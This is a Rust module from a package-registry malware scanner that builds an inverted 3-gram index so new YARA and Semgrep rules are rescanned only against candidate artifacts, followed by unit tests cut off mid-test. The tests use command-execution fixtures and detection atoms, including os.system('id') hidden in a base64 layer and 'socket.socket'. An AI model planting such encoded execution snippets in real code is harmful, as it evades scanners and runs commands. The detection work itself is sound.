//! Retro-hunt: an inverted atom→digest index so new rules never rescan
//! the world.
//!
//! The paper's premise is a *growing* LLM-generated ruleset, and the
//! operation a registry gatekeeper performs most often is deploying a
//! handful of new rules against a package history it has already
//! scanned. The content-addressed artifact layer makes re-*parsing*
//! free, but a naive deploy still confirm-scans every cached digest.
//! This module adds the VirusTotal-retrohunt shape: a posting index
//! from prefilter-atom evidence to the content digests whose artifacts
//! carry it, maintained incrementally on artifact publish/evict, so a
//! rule deploy touches only candidate digests.
//!
//! # Index shape
//!
//! Postings are keyed by folded (ASCII-lowercase) 3-grams of artifact
//! content rather than by whole interned atoms, and split by
//! provenance: grams of the raw file bytes land in the *surface* list,
//! grams of decoded payload layers in the *layer* list. An atom query
//! intersects the posting lists of the atom's own 3-grams — any
//! occurrence of the atom inside one scan unit contains every one of
//! its 3-grams, so the intersection is a sound over-approximation of
//! "digests whose content can contain this atom", and it answers for
//! atoms the index has *never seen before* (the whole point of a rule
//! deploy). Atoms shorter than the gram width go through exact 1/2-gram
//! posting maps maintained alongside the 3-gram index, so a rule gated
//! on `"MZ"` nominates only digests whose content actually contains the
//! two bytes instead of forcing an exhaustive confirm-scan; only rules
//! without an exhaustive atom set fall back to full candidacy.
//!
//! # Verdict semantics
//!
//! [`crate::ScanHub::retro_hunt`] confirm-scans each candidate digest
//! with exactly the changed rules, using the same per-unit evaluation
//! the hub scan path uses (surface bytes at offset zero, each decoded
//! layer as its own unit, Semgrep over the cached parsed module). The
//! differential suite pins `retro_hunt` ≡ `retro_rescan` (the
//! exhaustive oracle that confirm-scans every resident digest), and
//! pins the confirm-scan itself against a full hub scan restricted to
//! the changed rules.

use std::collections::{BTreeSet, HashMap};
use std::time::Instant;

use semgrep_engine::{CompiledSemgrepRules, Finding, MatchScratch, MatchSet};
use telemetry::Histogram;
use yara_engine::{CompiledRules, ScanScratch, Scanner};

use crate::artifact::FileAnalysis;
use crate::cache::DigestKey;
use crate::metrics::{HubCounters, HubTelemetry};
use crate::prefilter::{RuleDelta, RuleEngine};
use crate::store::ArtifactStore;
use crate::verdict::LayerFinding;
use crate::worker::layer_findings;

/// Width of the indexed content grams. Three bytes keeps the posting
/// map small enough to live beside the artifact cache while still
/// discriminating sharply for real IOC-length atoms.
pub(crate) const GRAM_LEN: usize = 3;

/// Where indexed evidence for a digest was observed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TermProvenance {
    /// The raw file bytes.
    Surface,
    /// A decoded payload layer (base64/hex recursion).
    Layer,
}

#[derive(Debug, Default)]
struct Postings {
    /// Slots whose raw bytes contain the gram, sorted ascending.
    surface: Vec<u32>,
    /// Slots with the gram in some decoded layer, sorted ascending.
    layer: Vec<u32>,
}

impl Postings {
    fn post(&mut self, provenance: TermProvenance, slot: u32) {
        let list = match provenance {
            TermProvenance::Surface => &mut self.surface,
            TermProvenance::Layer => &mut self.layer,
        };
        push_slot(list, slot);
    }
}

/// The inverted content index: folded 3-gram → digest slots, tagged by
/// provenance. Maintained under the artifact store's retro lock; all
/// mutation happens on the single-flight publish path and on eviction.
#[derive(Debug, Default)]
pub(crate) struct RetroIndex {
    /// Slot → (digest, analyzed-as-python) for live digests; `None`
    /// marks a tombstone awaiting compaction.
    slots: Vec<Option<(DigestKey, bool)>>,
    by_digest: HashMap<DigestKey, u32>,
    postings: HashMap<[u8; GRAM_LEN], Postings>,
    /// Exact single-byte postings, so 1-byte atoms stay gateable.
    grams1: HashMap<u8, Postings>,
    /// Exact byte-pair postings, so 2-byte atoms (`"MZ"`) stay gateable.
    grams2: HashMap<[u8; 2], Postings>,
    /// Slots freed by the last compaction, safe to reuse (their posting
    /// entries are gone).
    free: Vec<u32>,
    /// Tombstones not yet swept from the posting lists.
    dead: usize,
}

/// Words of the per-worker presence bitmaps: one bit per packed 3-gram
/// (2 MiB) and per packed pair (8 KiB).
const SEEN3_WORDS: usize = (1 << (8 * GRAM_LEN)) / 64;
const SEEN2_WORDS: usize = (1 << 16) / 64;

/// Sets bit `key`; true when it was clear.
fn first_sighting(seen: &mut [u64], key: usize) -> bool {
    let (word, bit) = (key >> 6, 1u64 << (key & 63));
    let fresh = seen[word] & bit == 0;
    seen[word] |= bit;
    fresh
}

/// The distinct folded grams of one provenance: single bytes as a
/// 256-bit set, pairs and 3-grams as big-endian packed keys in
/// first-sighting order.
#[derive(Debug, Default)]
struct GramSet {
    g1: [u64; 4],
    g2: Vec<u16>,
    g3: Vec<u32>,
}

impl GramSet {
    fn clear(&mut self) {
        self.g1 = [0; 4];
        self.g2.clear();
        self.g3.clear();
    }

    /// One pass over one scan unit, adding the grams whose presence bit
    /// is still clear. The rolling key restarts per unit, so no window
    /// crosses a layer boundary.
    fn scan(&mut self, data: &[u8], seen2: &mut [u64], seen3: &mut [u64]) {
        let mut key = 0usize;
        for (i, &b) in data.iter().enumerate() {
            let b = b.to_ascii_lowercase() as usize;
            key = (key << 8 | b) & 0xFF_FFFF;
            self.g1[b >> 6] |= 1 << (b & 63);
            if i >= 1 && first_sighting(seen2, key & 0xFFFF) {
                self.g2.push(key as u16);
            }
            if i >= 2 && first_sighting(seen3, key) {
                self.g3.push(key as u32);
            }
        }
    }

    /// Zeroes every bitmap word this set marked, keeping the lists.
    fn unmark(&self, seen2: &mut [u64], seen3: &mut [u64]) {
        for &k in &self.g2 {
            seen2[k as usize >> 6] = 0;
        }
        for &k in &self.g3 {
            seen3[k as usize >> 6] = 0;
        }
    }

    fn singles(&self) -> impl Iterator<Item = u8> + '_ {
        (0..=255u8).filter(|&b| self.g1[b as usize >> 6] >> (b & 63) & 1 == 1)
    }

    fn pairs(&self) -> impl Iterator<Item = [u8; 2]> + '_ {
        self.g2.iter().map(|k| k.to_be_bytes())
    }

    fn triples(&self) -> impl Iterator<Item = [u8; GRAM_LEN]> + '_ {
        self.g3.iter().map(|k| {
            let [_, a, b, c] = k.to_be_bytes();
            [a, b, c]
        })
    }
}

/// Per-worker gram collector: one rolling pass per scan unit folds each
/// byte once and records a gram the first time its presence bit is
/// found clear. The bitmaps are all-zero between collections — cleared
/// by walking the first-sighting lists, never by `fill` — so a publish
/// allocates nothing once the lists have grown, and transient memory is
/// the fixed bitmaps plus at most min(unit bytes, 2^24) keys per list.
#[derive(Debug, Default)]
pub(crate) struct GramScratch {
    /// Empty until the first collection, so workers of an index-less
    /// hub never pay for the bitmaps.
    seen3: Vec<u64>,
    seen2: Vec<u64>,
    /// Identity of the collected artifact, posted with its grams.
    digest: DigestKey,
    is_python: bool,
    surface: GramSet,
    layer: GramSet,
}

impl GramScratch {
    /// Collects the artifact's grams: `artifact.bytes` into the surface
    /// set, the union over `artifact.layers` into the layer set. Takes
    /// no lock.
    pub(crate) fn collect(&mut self, artifact: &FileAnalysis) {
        if self.seen3.is_empty() {
            self.seen3 = vec![0; SEEN3_WORDS];
            self.seen2 = vec![0; SEEN2_WORDS];
        }
        let (seen2, seen3) = (&mut self.seen2[..], &mut self.seen3[..]);
        self.digest = artifact.digest;
        self.is_python = artifact.is_python;
        self.surface.clear();
        self.surface.scan(&artifact.bytes, seen2, seen3);
        self.surface.unmark(seen2, seen3);
        self.layer.clear();
        for layer in &artifact.layers {
            self.layer.scan(&layer.data, seen2, seen3);
        }
        self.layer.unmark(seen2, seen3);
    }
}

/// Appends `slot` keeping the list sorted. Fresh slots always go at the
/// end; a slot reused after compaction may land mid-list.
fn push_slot(list: &mut Vec<u32>, slot: u32) {
    match list.last() {
        Some(&last) if last > slot => {
            let at = list.partition_point(|&s| s < slot);
            list.insert(at, slot);
        }
        _ => list.push(slot),
    }
}

impl RetroIndex {
    pub(crate) fn new() -> Self {
        Self::default()
    }

    /// Number of live digests.
    pub(crate) fn digest_count(&self) -> usize {
        self.by_digest.len()
    }

    /// Number of distinct indexed terms (folded 1/2/3-grams with at
    /// least one posting list).
    pub(crate) fn term_count(&self) -> usize {
        self.postings.len() + self.grams1.len() + self.grams2.len()
    }

    /// Indexes the artifact `grams` was collected from, posting each
    /// distinct gram once. Idempotent: a digest already indexed (rebuilt
    /// after an eviction whose removal has not reached the index yet)
    /// is left untouched.
    pub(crate) fn insert_collected(&mut self, grams: &GramScratch) {
        if self.by_digest.contains_key(&grams.digest) {
            return;
        }
        let live = Some((grams.digest, grams.is_python));
        let slot = match self.free.pop() {
            Some(s) => {
                self.slots[s as usize] = live;
                s
            }
            None => {
                self.slots.push(live);
                (self.slots.len() - 1) as u32
            }
        };
        self.by_digest.insert(grams.digest, slot);

        let lists = [
            (&grams.surface, TermProvenance::Surface),
            (&grams.layer, TermProvenance::Layer),
        ];
        for (set, provenance) in lists {
            for g in set.singles() {
                self.grams1.entry(g).or_default().post(provenance, slot);
            }
            for g in set.pairs() {
                self.grams2.entry(g).or_default().post(provenance, slot);
            }
            for g in set.triples() {
                self.postings.entry(g).or_default().post(provenance, slot);
            }
        }
    }

    /// Collect-and-insert through a fresh scratch.
    #[cfg(test)]
    pub(crate) fn insert_artifact(&mut self, artifact: &FileAnalysis) {
        let mut grams = GramScratch::default();
        grams.collect(artifact);
        self.insert_collected(&grams);
    }

    /// Drops a digest (cache eviction). The slot becomes a tombstone
    /// filtered at query time; posting lists are swept in bulk once
    /// tombstones outnumber live digests.
    pub(crate) fn remove(&mut self, digest: &DigestKey) {
        let Some(slot) = self.by_digest.remove(digest) else {
            return;
        };
        self.slots[slot as usize] = None;
        self.dead += 1;
        if self.dead > self.by_digest.len().max(32) {
            self.compact();
        }
    }

    fn compact(&mut self) {
        let slots = &self.slots;
        let sweep = |p: &mut Postings| {
            p.surface.retain(|&s| slots[s as usize].is_some());
            p.layer.retain(|&s| slots[s as usize].is_some());
            !p.surface.is_empty() || !p.layer.is_empty()
        };
        self.postings.retain(|_, p| sweep(p));
        self.grams1.retain(|_, p| sweep(p));
        self.grams2.retain(|_, p| sweep(p));
        self.free.clear();
        for (i, s) in self.slots.iter().enumerate() {
            if s.is_none() {
                self.free.push(i as u32);
            }
        }
        self.dead = 0;
    }

    /// Every live digest, with its python flag.
    pub(crate) fn all_digests(&self) -> Vec<(DigestKey, bool)> {
        self.slots.iter().flatten().copied().collect()
    }

    /// Candidate digests that can contain `atom` (folded text) with the
    /// given provenance. Atoms shorter than the gram width answer from
    /// the exact 1/2-gram posting maps; only an empty atom returns
    /// `None` (the caller must fall back to full candidacy).
    pub(crate) fn candidates_for_atom(
        &self,
        atom: &str,
        provenance: TermProvenance,
    ) -> Option<Vec<(DigestKey, bool)>> {
        let folded: Vec<u8> = atom.bytes().map(|b| b.to_ascii_lowercase()).collect();
        if folded.len() < GRAM_LEN {
            let postings = match folded.as_slice() {
                [] => return None,
                [b] => self.grams1.get(b),
                [a, b] => self.grams2.get(&[*a, *b]),
                _ => unreachable!(),
            };
            let Some(p) = postings else {
                return Some(Vec::new());
            };
            let list = match provenance {
                TermProvenance::Surface => &p.surface,
                TermProvenance::Layer => &p.layer,
            };
            return Some(
                list.iter()
                    .filter_map(|&s| self.slots[s as usize])
                    .collect(),
            );
        }
        let mut lists: Vec<&Vec<u32>> = Vec::with_capacity(folded.len() - GRAM_LEN + 1);
        for w in folded.windows(GRAM_LEN) {
            let g = [w[0], w[1], w[2]];
            let Some(p) = self.postings.get(&g) else {
                return Some(Vec::new());
            };
            let list = match provenance {
                TermProvenance::Surface => &p.surface,
                TermProvenance::Layer => &p.layer,
            };
            if list.is_empty() {
                return Some(Vec::new());
            }
            lists.push(list);
        }
        lists.sort_by_key(|l| l.len());
        let mut acc: Vec<u32> = lists[0].clone();
        for list in &lists[1..] {
            acc.retain(|s| list.binary_search(s).is_ok());
            if acc.is_empty() {
                break;
            }
        }
        Some(
            acc.into_iter()
                .filter_map(|s| self.slots[s as usize])
                .collect(),
        )
    }
}

/// One rule deploy packaged for retro-hunting: the index-level diff
/// plus subset rulesets holding only the changed rules, so a confirm
/// scan evaluates nothing that did not change.
#[derive(Debug)]
pub struct RuleDeployment {
    /// Exactly which rules are new or changed, and which atoms the new
    /// index had never interned.
    pub delta: RuleDelta,
    /// Subset compiled ruleset of the changed YARA rules, in
    /// `delta.changed` order.
    pub(crate) yara: Option<CompiledRules>,
    /// Subset compiled ruleset of the changed Semgrep rules, in
    /// `delta.changed` order.
    pub(crate) semgrep: Option<CompiledSemgrepRules>,
    /// `delta.changed[i]` → position in its engine's subset ruleset.
    pub(crate) subset_pos: Vec<usize>,
}

impl RuleDeployment {
    pub(crate) fn build(
        delta: RuleDelta,
        yara: Option<&CompiledRules>,
        semgrep: Option<&CompiledSemgrepRules>,
    ) -> Self {
        let mut yara_rules = Vec::new();
        let mut semgrep_rules = Vec::new();
        let mut subset_pos = Vec::with_capacity(delta.changed.len());
        for changed in &delta.changed {
            match changed.engine {
                RuleEngine::Yara => {
                    subset_pos.push(yara_rules.len());
                    let rules = yara.expect("changed YARA rule implies a YARA ruleset");
                    yara_rules.push(rules.rules[changed.index].clone());
                }
                RuleEngine::Semgrep => {
                    subset_pos.push(semgrep_rules.len());
                    let rules = semgrep.expect("changed Semgrep rule implies a Semgrep ruleset");
                    semgrep_rules.push(rules.rules[changed.index].clone());
                }
            }
        }
        RuleDeployment {
            delta,
            yara: (!yara_rules.is_empty()).then_some(CompiledRules { rules: yara_rules }),
            semgrep: (!semgrep_rules.is_empty()).then_some(CompiledSemgrepRules {
                rules: semgrep_rules,
            }),
            subset_pos,
        }
    }

    /// True when nothing changed — a retro-hunt would scan nothing.
    pub fn is_empty(&self) -> bool {
        self.delta.changed.is_empty()
    }

    /// Sizes of the per-engine subset rulesets.
    pub(crate) fn subset_lens(&self) -> (usize, usize) {
        (
            self.yara.as_ref().map_or(0, |r| r.rules.len()),
            self.semgrep.as_ref().map_or(0, |r| r.rules.len()),
        )
    }
}

/// Hits for one changed rule across the package history.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RetroRuleHits {
    /// Which engine the rule belongs to.
    pub engine: RuleEngine,
    /// The rule's name (YARA rule name / Semgrep rule id).
    pub rule: String,
    /// How many digests the index nominated for this rule.
    pub candidates: u64,
    /// Hex digests the rule matched (surface, Semgrep, or decoded
    /// layer), sorted.
    pub digests: Vec<String>,
}

/// Findings for one digest, restricted to the deployed delta rules.
/// Mirrors [`crate::Verdict`] semantics; `file` fields of layer
/// findings carry the hex digest (a retro-hunt sees content, not the
/// upload names that referenced it).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RetroVerdict {
    /// Hex content digest.
    pub digest: String,
    /// Matching YARA rule names (surface evaluation), sorted.
    pub yara: Vec<String>,
    /// Matching Semgrep rule ids, sorted.
    pub semgrep: Vec<String>,
    /// Decoded-layer findings, sorted.
    pub layers: Vec<LayerFinding>,
}

impl RetroVerdict {
    /// True when at least one delta rule fired on this digest.
    pub fn flagged(&self) -> bool {
        !self.yara.is_empty() || !self.semgrep.is_empty() || !self.layers.is_empty()
    }
}

/// The result of one retro-hunt (or of the exhaustive rescan oracle).
#[derive(Debug, Clone, Default)]
pub struct RetroReport {
    /// Per changed rule, in delta order: candidates and confirmed hits.
    pub rules: Vec<RetroRuleHits>,
    /// Flagged digests with their delta-restricted verdicts, sorted by
    /// digest.
    pub verdicts: Vec<RetroVerdict>,
    /// Digests resident in the index when the hunt ran.
    pub digests_indexed: u64,
    /// Total per-rule candidate nominations (a digest nominated by two
    /// rules counts twice).
    pub candidates: u64,
    /// Distinct digests confirm-scanned.
    pub confirm_scans: u64,
    /// Changed rules that fell back to full candidacy (no exhaustive
    /// atom set — regex-only or always-on rules). Short atoms no
    /// longer force fallback: they answer from exact 1/2-gram postings.
    pub full_candidacy_rules: u64,
}

impl RetroReport {
    /// True when `other` confirms the same per-rule hit sets and the
    /// same per-digest verdicts — candidate/scan *counts* are allowed
    /// to differ (that is the speedup), the findings are not.
    pub fn same_hits(&self, other: &RetroReport) -> bool {
        self.rules.len() == other.rules.len()
            && self
                .rules
                .iter()
                .zip(&other.rules)
                .all(|(a, b)| a.engine == b.engine && a.rule == b.rule && a.digests == b.digests)
            && self.verdicts == other.verdicts
    }

    /// Total confirmed (rule, digest) hit pairs.
    pub fn total_hits(&self) -> usize {
        self.rules.iter().map(|r| r.digests.len()).sum()
    }
}

/// One confirm-scan work item: a digest and, per engine, which subset
/// rules to evaluate on it.
#[derive(Debug)]
struct ConfirmTask {
    digest: DigestKey,
    yara_mask: Vec<bool>,
    semgrep_mask: Vec<bool>,
}

/// What to confirm-scan, with the nomination accounting the report
/// carries alongside the findings.
struct ConfirmPlan {
    tasks: Vec<ConfirmTask>,
    /// Per changed rule, in delta order: digests nominated for it.
    candidates: Vec<u64>,
    digests_indexed: u64,
    full_candidacy_rules: u64,
}

/// Confirm-scans each task's digest (in digest order) with the
/// deployment's subset rulesets, strictly gated per rule — a rule is
/// evaluated on a digest only if that digest was nominated for it, which
/// keeps the differential proof against the exhaustive oracle sharp.
/// Each scan's wall time lands in `timed` when one is given.
fn confirm_scan(
    deployment: &RuleDeployment,
    mut plan: ConfirmPlan,
    store: &ArtifactStore,
    timed: Option<&Histogram>,
) -> RetroReport {
    plan.tasks.sort_by_key(|task| task.digest);
    let scanner = deployment.yara.as_ref().map(Scanner::new);
    let matcher = deployment.semgrep.as_ref().map(MatchSet::new);
    let mut yara_scratch = ScanScratch::new();
    let mut semgrep_scratch = MatchScratch::new();
    let mut marks: Vec<bool> = Vec::new();
    let mut findings: Vec<Finding> = Vec::new();

    let changed = &deployment.delta.changed;
    let mut by_name: HashMap<(RuleEngine, &str), usize> = HashMap::new();
    for (ci, c) in changed.iter().enumerate() {
        by_name.insert((c.engine, c.name.as_str()), ci);
    }
    let mut rule_digests: Vec<BTreeSet<String>> = vec![BTreeSet::new(); changed.len()];
    let mut verdicts: Vec<RetroVerdict> = Vec::new();
    let mut scans = 0u64;

    for task in &plan.tasks {
        // A digest evicted between index query and confirm is simply
        // gone from the history — nothing to report on it.
        let Some(artifact) = store.get(&task.digest) else {
            continue;
        };
        let clock = Instant::now();
        scans += 1;
        let hex = digest::to_hex(&task.digest);
        let mut verdict = RetroVerdict {
            digest: hex.clone(),
            yara: Vec::new(),
            semgrep: Vec::new(),
            layers: Vec::new(),
        };
        if let Some(scanner) = &scanner {
            if task.yara_mask.iter().any(|&b| b) {
                let hits = scanner.collect_hits(&artifact.bytes);
                for m in scanner.eval_hits(
                    [(0usize, &hits)],
                    artifact.bytes.len() as i64,
                    |ri| task.yara_mask[ri],
                    &mut yara_scratch,
                ) {
                    verdict.yara.push(m.rule);
                }
                for layer in &artifact.layers {
                    layer_findings(
                        scanner,
                        layer,
                        &scanner.collect_hits(&layer.data),
                        &hex,
                        &task.yara_mask,
                        &mut marks,
                        &mut yara_scratch,
                        &mut verdict.layers,
                    );
                }
            }
        }
        if let (Some(matcher), Some(module)) = (&matcher, artifact.module.as_ref()) {
            if task.semgrep_mask.iter().any(|&b| b) {
                findings.clear();
                matcher.match_module_set_into(
                    module.get(),
                    |ri| task.semgrep_mask[ri],
                    &mut semgrep_scratch,
                    &mut findings,
                );
                let ids: BTreeSet<String> = findings.drain(..).map(|f| f.rule_id).collect();
                verdict.semgrep = ids.into_iter().collect();
            }
        }
        verdict.yara.sort_unstable();
        verdict.yara.dedup();
        verdict.layers.sort();
        verdict.layers.dedup();

        for name in &verdict.yara {
            if let Some(&ci) = by_name.get(&(RuleEngine::Yara, name.as_str())) {
                rule_digests[ci].insert(hex.clone());
            }
        }
        for finding in &verdict.layers {
            if let Some(&ci) = by_name.get(&(RuleEngine::Yara, finding.rule.as_str())) {
                rule_digests[ci].insert(hex.clone());
            }
        }
        for id in &verdict.semgrep {
            if let Some(&ci) = by_name.get(&(RuleEngine::Semgrep, id.as_str())) {
                rule_digests[ci].insert(hex.clone());
            }
        }
        if let Some(hist) = timed {
            hist.record(clock.elapsed().as_nanos() as u64);
        }
        if verdict.flagged() {
            verdicts.push(verdict);
        }
    }

    verdicts.sort_by(|a, b| a.digest.cmp(&b.digest));
    let rules = changed
        .iter()
        .zip(rule_digests)
        .zip(&plan.candidates)
        .map(|((c, digests), &candidates)| RetroRuleHits {
            engine: c.engine,
            rule: c.name.clone(),
            candidates,
            digests: digests.into_iter().collect(),
        })
        .collect();
    RetroReport {
        rules,
        verdicts,
        digests_indexed: plan.digests_indexed,
        candidates: plan.candidates.iter().sum(),
        confirm_scans: scans,
        full_candidacy_rules: plan.full_candidacy_rules,
    }
}

/// [`crate::ScanHub::retro_hunt`]: plans per-digest confirm tasks from
/// the retro index, then confirm-scans only those. `None` when the
/// index is disabled.
pub(crate) fn hunt(
    store: &ArtifactStore,
    deployment: &RuleDeployment,
    counters: &HubCounters,
    telemetry: &HubTelemetry,
) -> Option<RetroReport> {
    let retro = store.retro.as_ref()?;
    let query_clock = telemetry.enabled().then(Instant::now);
    HubCounters::add(&counters.retro_hunts, 1);

    let changed = &deployment.delta.changed;
    let (yara_len, semgrep_len) = deployment.subset_lens();
    let mut masks: HashMap<DigestKey, (Vec<bool>, Vec<bool>)> = HashMap::new();
    let mut candidates: Vec<u64> = Vec::with_capacity(changed.len());
    let mut full_candidacy_rules = 0u64;
    let retro = retro.lock().expect("retro index lock");
    let digests_indexed = retro.digest_count() as u64;
    for (ci, rule) in changed.iter().enumerate() {
        // Candidates for this rule: `None` means "cannot gate —
        // full candidacy" (no exhaustive atom set). Sub-gram
        // atoms answer exactly from the 1/2-gram postings.
        let gated: Option<Vec<(DigestKey, bool)>> = if !rule.exhaustive {
            None
        } else if rule.atoms.is_empty() {
            // Exhaustive and atomless: the rule can never match
            // (`condition: false`), so zero candidates is sound.
            Some(Vec::new())
        } else {
            let mut acc: HashMap<DigestKey, bool> = HashMap::new();
            let mut fallback = false;
            for atom in &rule.atoms {
                let Some(surface) = retro.candidates_for_atom(atom, TermProvenance::Surface) else {
                    fallback = true;
                    break;
                };
                match rule.engine {
                    // YARA scans raw bytes and every decoded
                    // layer; any-of atom semantics unions.
                    RuleEngine::Yara => {
                        acc.extend(surface);
                        let layer = retro
                            .candidates_for_atom(atom, TermProvenance::Layer)
                            .expect("same atom was surface-queryable");
                        acc.extend(layer);
                    }
                    // Semgrep parses Python surface text only.
                    RuleEngine::Semgrep => {
                        acc.extend(surface.into_iter().filter(|(_, python)| *python));
                    }
                }
            }
            (!fallback).then(|| acc.into_iter().collect())
        };
        let list: Vec<(DigestKey, bool)> = match gated {
            Some(list) => list,
            None => {
                full_candidacy_rules += 1;
                let all = retro.all_digests();
                match rule.engine {
                    RuleEngine::Yara => all,
                    RuleEngine::Semgrep => all.into_iter().filter(|(_, python)| *python).collect(),
                }
            }
        };
        candidates.push(list.len() as u64);
        let subset = deployment.subset_pos[ci];
        for (digest, _) in list {
            let entry = masks
                .entry(digest)
                .or_insert_with(|| (vec![false; yara_len], vec![false; semgrep_len]));
            match rule.engine {
                RuleEngine::Yara => entry.0[subset] = true,
                RuleEngine::Semgrep => entry.1[subset] = true,
            }
        }
    }
    drop(retro);
    if let Some(start) = query_clock {
        let ns = start.elapsed().as_nanos() as u64;
        telemetry.stages.retro_query.record(ns);
    }

    let tasks = masks
        .into_iter()
        .map(|(digest, (yara_mask, semgrep_mask))| ConfirmTask {
            digest,
            yara_mask,
            semgrep_mask,
        })
        .collect();
    let plan = ConfirmPlan {
        tasks,
        candidates,
        digests_indexed,
        full_candidacy_rules,
    };
    let timed = telemetry
        .enabled()
        .then(|| &*telemetry.stages.retro_confirm);
    let report = confirm_scan(deployment, plan, store, timed);
    HubCounters::add(&counters.retro_candidates, report.candidates);
    HubCounters::add(&counters.retro_confirm_scans, report.confirm_scans);
    Some(report)
}

/// [`crate::ScanHub::retro_rescan`]: every resident digest against every
/// changed rule, no index consulted, no counter or histogram touched.
pub(crate) fn rescan(store: &ArtifactStore, deployment: &RuleDeployment) -> Option<RetroReport> {
    let retro = store.retro.as_ref()?;
    let (yara_len, semgrep_len) = deployment.subset_lens();
    let all = retro.lock().expect("retro index lock").all_digests();
    let tasks = all
        .iter()
        .map(|(digest, _)| ConfirmTask {
            digest: *digest,
            yara_mask: vec![true; yara_len],
            semgrep_mask: vec![true; semgrep_len],
        })
        .collect();
    let rules = deployment.delta.changed.len();
    let plan = ConfirmPlan {
        tasks,
        candidates: vec![all.len() as u64; rules],
        digests_indexed: all.len() as u64,
        full_candidacy_rules: rules as u64,
    };
    Some(confirm_scan(deployment, plan, store, None))
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;
    use crate::artifact::ArtifactConfig;
    use crate::hub::tests::{hub, request, SEMGREP, YARA};
    use crate::request::FileEntry;
    use crate::{HubConfig, ScanRequest};

    fn analyze(name: &str, content: &[u8]) -> FileAnalysis {
        let entry = FileEntry::new(name, content.to_vec());
        FileAnalysis::build(&entry, None, &ArtifactConfig::default())
    }

    fn digests(hits: &[(DigestKey, bool)]) -> Vec<DigestKey> {
        let mut v: Vec<DigestKey> = hits.iter().map(|(d, _)| *d).collect();
        v.sort_unstable();
        v
    }

    #[test]
    fn atom_occurrence_is_always_a_candidate() {
        let mut index = RetroIndex::new();
        let a = analyze("a.py", b"import os\nos.system('id')\n");
        let b = analyze("b.py", b"print('hello world')\n");
        index.insert_artifact(&a);
        index.insert_artifact(&b);
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("long atom is queryable");
        assert_eq!(digests(&hits), digests(&[(a.digest, true)]));
        // Unrelated atom: no candidates at all, including never-seen grams.
        let miss = index
            .candidates_for_atom("socket.socket", TermProvenance::Surface)
            .expect("queryable");
        assert!(miss.is_empty());
    }

    #[test]
    fn queries_are_case_insensitive_like_the_prefilter() {
        let mut index = RetroIndex::new();
        let a = analyze("a.py", b"OS.System('id')\n");
        index.insert_artifact(&a);
        let hits = index
            .candidates_for_atom("os.SYSTEM", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(hits.len(), 1);
    }

    #[test]
    fn short_atoms_answer_from_exact_gram_postings() {
        let mut index = RetroIndex::new();
        let magic = analyze("a.bin", b"MZ\x90\x00");
        let other = analyze("b.py", b"print('hello')\n");
        index.insert_artifact(&magic);
        index.insert_artifact(&other);
        // 2-byte atom: exact, folded, and it prunes.
        let hits = index
            .candidates_for_atom("MZ", TermProvenance::Surface)
            .expect("2-byte atoms are queryable");
        assert_eq!(digests(&hits), digests(&[(magic.digest, false)]));
        let hits = index
            .candidates_for_atom("mz", TermProvenance::Surface)
            .expect("folded like every other query");
        assert_eq!(digests(&hits), digests(&[(magic.digest, false)]));
        // 1-byte atom present in exactly one artifact.
        let hits = index
            .candidates_for_atom("(", TermProvenance::Surface)
            .expect("1-byte atoms are queryable");
        assert_eq!(digests(&hits), digests(&[(other.digest, true)]));
        // Never-seen short grams nominate nothing rather than everyone.
        let miss = index
            .candidates_for_atom("q", TermProvenance::Surface)
            .expect("queryable");
        assert!(miss.is_empty());
        let miss = index
            .candidates_for_atom("qq", TermProvenance::Surface)
            .expect("queryable");
        assert!(miss.is_empty());
        // Only the empty atom is un-gateable.
        assert!(index
            .candidates_for_atom("", TermProvenance::Surface)
            .is_none());
    }

    #[test]
    fn short_gram_provenance_is_tracked_separately() {
        let payload = digest::base64::encode(b"MZ\x90\x00 decoded payload");
        let code = format!("blob = '{payload}'\n");
        let mut index = RetroIndex::new();
        let a = analyze("a.py", code.as_bytes());
        assert!(!a.layers.is_empty(), "payload must decode");
        index.insert_artifact(&a);
        // "MZ" only exists inside the decoded layer — unless the random
        // base64 text happens to contain "mz", surface must miss.
        if !code.to_ascii_lowercase().contains("mz") {
            let surface = index
                .candidates_for_atom("MZ", TermProvenance::Surface)
                .expect("queryable");
            assert!(surface.is_empty(), "atom only exists decoded");
        }
        let layer = index
            .candidates_for_atom("MZ", TermProvenance::Layer)
            .expect("queryable");
        assert_eq!(layer.len(), 1);
    }

    #[test]
    fn eviction_and_compaction_sweep_short_gram_postings() {
        let mut index = RetroIndex::new();
        let keep = analyze("keep.bin", b"PK\x03\x04 archive");
        index.insert_artifact(&keep);
        let mut evicted = Vec::new();
        for i in 0..100 {
            let a = analyze("x.bin", format!("MZ stub {i}").as_bytes());
            index.insert_artifact(&a);
            evicted.push(a.digest);
        }
        for d in &evicted {
            index.remove(d);
        }
        assert_eq!(index.digest_count(), 1);
        let hits = index
            .candidates_for_atom("MZ", TermProvenance::Surface)
            .expect("queryable");
        assert!(hits.is_empty(), "evicted digests must drop out of 2-grams");
        let hits = index
            .candidates_for_atom("PK", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(digests(&hits), digests(&[(keep.digest, false)]));
    }

    #[test]
    fn layer_provenance_is_tracked_separately() {
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let code = format!("blob = '{payload}'\n");
        let mut index = RetroIndex::new();
        let a = analyze("a.py", code.as_bytes());
        assert!(!a.layers.is_empty(), "payload must decode");
        index.insert_artifact(&a);
        let surface = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert!(surface.is_empty(), "atom only exists decoded");
        let layer = index
            .candidates_for_atom("os.system", TermProvenance::Layer)
            .expect("queryable");
        assert_eq!(layer.len(), 1);
    }

    #[test]
    fn eviction_removes_candidacy_and_compaction_preserves_answers() {
        let mut index = RetroIndex::new();
        let keep = analyze("keep.py", b"keeper os.system marker\n");
        index.insert_artifact(&keep);
        let mut evicted = Vec::new();
        for i in 0..100 {
            let a = analyze("x.py", format!("os.system('{i}')\n").as_bytes());
            index.insert_artifact(&a);
            evicted.push(a.digest);
        }
        for d in &evicted {
            index.remove(d);
        }
        assert_eq!(index.digest_count(), 1);
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(digests(&hits), digests(&[(keep.digest, true)]));
        // Freed slots are reused without corrupting other postings.
        let reborn = analyze("y.py", b"socket.socket()\n");
